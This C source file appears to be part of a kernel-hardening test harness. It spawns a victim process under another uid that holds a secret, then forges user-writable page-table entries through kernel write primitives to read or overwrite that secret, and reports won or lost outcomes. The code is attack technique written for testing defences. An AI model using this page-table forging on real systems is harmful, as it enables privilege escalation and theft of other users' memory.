// SPDX-License-Identifier: GPL-2.0-only
/* Another user's process. Only it knows its secret; it confirms a guess. */
#include <errno.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

static int victim = -1;
static pid_t victim_process;
static uint64_t victim_address;

/*
 * All of the program. Attackers run on this process's tables: what they faulted in
 * there would be counted for another mm, which the kernel reports when that ends.
 */
static void map_program(void)
{
	extern char __executable_start[], edata[];
	char *start = (char *)((uintptr_t)__executable_start & -PAGE_SIZE);

	madvise(start, edata - start, MADV_POPULATE_READ);
}

static char *make_secret(void)
{
	char *secret = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t random;

	getrandom(&random, sizeof(random), 0);
	snprintf(secret, SECRET_SIZE, "secret-%016lx", random);
	return secret;
}

static void keep_key(const char *secret)
{
	syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
	syscall(SYS_add_key, "user", VICTIM_KEY, secret, strlen(secret), KEY_SPEC_SESSION_KEYRING);
}

static void victim_main(int fd)
{
	char guess[SECRET_SIZE];
	char *secret;
	char yes;

	if (setresuid(VICTIM_UID, VICTIM_UID, VICTIM_UID))
		_exit(1);
	map_program();
	secret = make_secret();
	keep_key(secret);
	if (write(fd, &secret, sizeof(secret)) != sizeof(secret))
		_exit(1);
	while (read(fd, guess, sizeof(guess)) == sizeof(guess)) {
		yes = !strncmp(guess, secret, sizeof(guess));
		if (write(fd, &yes, 1) != 1)
			break;
	}
	_exit(0);
}

void victim_start(void)
{
	int fds[2];

	if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, fds))
		_exit(1);
	victim_process = fork();
	if (!victim_process) {
		close(fds[0]);
		victim_main(fds[1]);
	}
	close(fds[1]);
	victim = fds[0];
	if (read(victim, &victim_address, sizeof(victim_address)) != sizeof(victim_address))
		_exit(1);
}

int victim_pid(void)
{
	return victim_process;
}

uint64_t victim_phys(void)
{
	struct slot slot;

	if (kwalk(victim_address, LEAF, victim_process, &slot))
		return 0;
	return slot.phys;
}

uint64_t victim_secret(void)
{
	return victim_address;
}

/* 1 if the victim says that this is its secret, -1 if it died. */
/* guess[] becomes what is asked for: the text, padded. */
static int ask_victim(const char *text, char guess[SECRET_SIZE])
{
	char yes = 0;

	memset(guess, 0, SECRET_SIZE);
	snprintf(guess, SECRET_SIZE, "%s", text);
	if (write(victim, guess, SECRET_SIZE) != SECRET_SIZE || read(victim, &yes, 1) != 1)
		return -1;
	return yes;
}

enum outcome judge_secret(const char *text, int err)
{
	char guess[SECRET_SIZE];
	int yes = ask_victim(text, guess);

	if (yes < 0)
		return broken("victim died");
	if (yes)
		return won("uid %d read the memory of pid %d (uid %d): %s", getuid(),
			   victim_process, VICTIM_UID, guess);
	if (err == -EFAULT)
		return lost("the store faulted and the secret was not seen");
	return lost("store gave %d, the secret was not seen", err);
}

enum outcome judge_forged(const char *text, int err)
{
	char guess[SECRET_SIZE];
	int yes = ask_victim(text, guess);

	if (yes < 0)
		return broken("victim died");
	if (yes)
		return won("uid %d changed the page tables of pid %d (uid %d): its secret is now '%s'",
			   getuid(), victim_process, VICTIM_UID, guess);
	return lost("the kernel said %d, the secret is as it was", err);
}

void take_secret_in(volatile void *table, const struct window *window, char *text, size_t size)
{
	volatile uint64_t *entry = (volatile void *)((char *)table + window->slot % PAGE_SIZE);

	(void)*entry;	/* a fault that reads maps what is there */
	*entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW;
	snprintf(text, size, "%s", window->page);
	*entry = 0;
}

/* Map the secret's page at a forged PTE, by a store of the caller's choice. */
enum outcome steal_secret_by(store_function *store, const void *how)
{
	char text[SECRET_SIZE];
	struct window window;
	int err;

	if (!window_open(&window, LEVEL_PTE))
		return broken("no empty page-table entry to forge");
	err = window_map(&window, store, how, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	window_close(&window);
	if (err == -ENODEV)
		return skipped("needs a second CPU");
	if (err && err != -EFAULT)
		return broken("the store gave %s", strerror(-err));
	return judge_secret(text, err);
}

static int store_as_told(const void *how, uint64_t slot, uint64_t value)
{
	return kstore(how, slot, &value, sizeof(value));
}

enum outcome steal_secret(const struct store *how)
{
	return steal_secret_by(store_as_told, how);
}

int plain_store(const void *how, uint64_t slot, uint64_t value)
{
	(void)how;
	return kwrite64(slot, value);
}
